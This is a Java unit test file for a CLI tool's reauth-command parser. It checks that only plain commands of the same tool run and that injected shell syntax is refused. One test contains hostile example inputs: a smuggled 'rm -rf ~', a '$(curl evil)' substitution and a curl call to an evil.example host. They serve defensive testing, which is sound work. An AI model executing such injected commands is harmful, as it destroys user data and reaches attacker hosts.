package dev.mayfly.cli.run;

import static org.assertj.core.api.Assertions.assertThat;

import dev.mayfly.cli.Main;
import org.junit.jupiter.api.Test;

/** A reauth_command is code someone else chose: only a plain command of the same tool, or of mayfly, is run. */
class ReauthCommandTest {
    @Test
    void mayflyRunsThisSameMayfly() {
        ReauthCommand r = ReauthCommand.parse("mayfly auth refresh", "/usr/bin/othercli");
        assertThat(r.runnable()).isTrue();
        assertThat(r.argv()).contains(Main.class.getName()).endsWith("auth", "refresh");
    }

    @Test
    void theWrappedProgramsOwnCommandRunsAsTheSameProgram() {
        ReauthCommand r = ReauthCommand.parse("fakecli auth refresh --profile x", "/tmp/bin/fakecli");
        assertThat(r.argv()).containsExactly("/tmp/bin/fakecli", "auth", "refresh", "--profile", "x");
    }

    @Test
    void shellSyntaxAndOtherProgramsAreRefused() {
        assertThat(ReauthCommand.parse("fakecli auth refresh; rm -rf ~", "fakecli").runnable()).isFalse();
        assertThat(ReauthCommand.parse("fakecli $(curl evil)", "fakecli").runnable()).isFalse();
        assertThat(ReauthCommand.parse("curl https://evil.example", "fakecli").refusal()).contains("not a command of fakecli");
        assertThat(ReauthCommand.parse(null, "fakecli").runnable()).isFalse();
    }
}
